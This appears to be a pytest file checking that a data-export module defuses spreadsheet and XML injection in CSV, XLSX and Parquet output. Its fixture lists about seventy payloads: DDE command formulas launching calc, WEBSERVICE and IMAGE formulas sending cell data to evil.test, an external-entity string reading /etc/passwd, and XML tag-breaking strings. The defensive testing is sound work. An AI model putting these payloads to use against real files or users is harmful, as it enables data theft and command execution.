"""Sixty strings that a spreadsheet might run, or a file might break on, in all three formats."""

import csv
import io
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from workbench.exports import About, about_bytes, csv_bytes, parquet_bytes, xlsx_bytes

HOSTILE = {
    "a sum": "=SUM(A1:A9)",
    "a command": "=cmd|'/C calc'!A0",
    "a command behind a plus": "+cmd|'/C calc'!A0",
    "a command behind a minus": "-2+3+cmd|'/C calc'!A0",
    "an old function": "@SUM(1+1)*cmd|'/C calc'!A0",
    "a hyperlink": '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "a web service": '=WEBSERVICE("http://evil.test/"&A1)',
    "an image": '=IMAGE("http://evil.test/"&A1)',
    "an import": '=IMPORTXML("http://evil.test","//a")',
    "a data exchange": '=DDE("cmd";"/C calc";"x")',
    "a macro": '=EXEC("calc")',
    "an array": "{=SUM(A1)}",
    "a plus": "+1",
    "a minus": "-1",
    "a phone number": "+14155550177",
    "an at sign": "@user",
    "blanks first": "   =1+1",
    "a tab first": "\t=1+1",
    "a carriage return first": "\r=1+1",
    "a line feed first": "\n=1+1",
    "both line ends first": "\r\n=1+1",
    "a vertical tab first": "\v=1+1",
    "a form feed first": "\f=1+1",
    "a null first": "\x00=1+1",
    "a bell first": "\x07=1+1",
    "an escape first": "\x1b[31m=1+1",
    "a delete first": "\x7f=1+1",
    "a next line first": "\x85=1+1",
    "no-break blanks first": "\u00a0=1+1",
    "a zero-width blank first": "\u200b=1+1",
    "a byte order mark first": "\ufeff=1+1",
    "a line separator first": "\u2028=1+1",
    "an ideographic blank first": "\u3000=1+1",
    "right to left first": "\u202e=1+1",
    "an isolate first": "\u2066=1+1",
    "a full-width sign": "＝1+1",
    "a full-width plus": "＋1",
    "a full-width minus": "－1",
    "a full-width at": "＠SUM(1)",
    "a small sign": "﹦1",
    "a superscript plus": "⁺1",
    "an apostrophe": "'=1+1",
    "two apostrophes": "''=1+1",
    "a quote": '"=1+1',
    "a quote that ends the cell": '","=1+1","',
    "a comma": "a,=1+1",
    "a semicolon": "a;=1+1",
    "a tab within": "a\t=1+1",
    "a pipe": "a|=1+1",
    "a new row": "a\r\n=1+1",
    "an old new row": "a\r=1+1",
    "a closed cell": "</t></is></c><c><f>1+1</f></c>",
    "an entity": "&lt;f&gt;1+1&lt;/f&gt;",
    "an external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "a data section": "]]><f>1+1</f>",
    "what Excel escapes": "_x003D_1+1",
    "what Excel escapes twice": "_x005F_x003D_1+1",
    "a link": "http://evil.test/=1",
    "a link to a file": "file:///etc/passwd",
    "a mail address": "mailto:x@evil.test",
    "a number that is a text": "0123",
    "a number too long": "12345678901234567890",
    "a power of ten": "1E10",
    "a date": "1-2",
    "true": "TRUE",
    "an error": "#REF!",
    "a text too long": "=" + "A" * 40_000,
    "only controls": "\x01\x02\x03",
    "every sign of another plane": "😀=1+1\U0001f9ff",
}
AS_OF = datetime(2026, 11, 18, 12, tzinfo=UTC)
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "⁺")


def table_of(text: str) -> pa.Table:
    return pa.table({"cell": [text], text[:200] or "empty": [text]})


def about_of(text: str) -> About:
    return About("data/health", text, AS_OF, {"country": text})


def test_there_are_sixty_of_them() -> None:
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_a_csv_file_begins_with_a_sign(name: str) -> None:
    text = HOSTILE[name]
    heading, row = csv.reader(io.StringIO(csv_bytes(table_of(text)).decode("utf-8-sig"), newline=""))
    for cell in (*heading, *row):
        shown = cell.lstrip("".join(letter for letter in cell if not letter.isprintable() or letter.isspace()))
        assert not cell.startswith(SIGNS)
        assert not shown.startswith(SIGNS)
    assert row[0] == row[1]
    assert "".join(row[0].split("'")) == "".join(text.split("'"))


@pytest.mark.parametrize("name", HOSTILE)
def test_every_cell_of_a_workbook_is_a_text_and_nothing_else(name: str) -> None:
    text = HOSTILE[name]
    content = xlsx_bytes(table_of(text), about_of(text))
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        names = parts.namelist()
        sheets = [parts.read(part).decode() for part in names if part.startswith("xl/worksheets/sheet")]
        for part in names:
            ElementTree.fromstring(parts.read(part))  # noqa: S314 -- what we wrote ourselves
    assert not any("<f>" in sheet or "<hyperlink" in sheet for sheet in sheets)
    assert not any(part.startswith(("xl/externalLinks", "xl/vbaProject")) for part in names)
    cell = openpyxl.load_workbook(io.BytesIO(content))["data"]["A2"]
    assert cell.data_type in {"s", "inlineStr", "n"}
    assert cell.value is None or isinstance(cell.value, str)
    assert cell.hyperlink is None


@pytest.mark.parametrize("name", HOSTILE)
def test_a_parquet_file_gives_back_what_was_put_in(name: str) -> None:
    text = HOSTILE[name]
    found = pq.read_table(io.BytesIO(parquet_bytes(table_of(text), about_of(text))))
    assert found.to_pylist()[0]["cell"] == text
    assert found.schema.metadata[b"definition"].decode() == text
    assert found.schema.metadata[b"filter: country"].decode() == text


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_beside_a_csv_file_keeps_its_lines(name: str) -> None:
    lines = about_bytes(about_of(HOSTILE[name])).decode().split("\n")
    assert [line.split(": ")[0] for line in lines] == ["query", "definition", "filter", "as of", ""]
    assert lines[3] == "as of: 2026-11-18T12:00:00Z"


def test_definition_filters_and_time_are_inside_a_workbook() -> None:
    about = About("funnel/steps", "How far they got.", AS_OF, {"path": "entity", "since": None})
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(pa.table({"n": [1]}), about)))
    assert [[cell.value for cell in row] for row in book["about"].rows] == [
        ["query", "funnel/steps"],
        ["definition", "How far they got."],
        ["filter: path", "entity"],
        ["as of", "2026-11-18T12:00:00Z"],
    ]
    assert book["data"]["A2"].value == 1
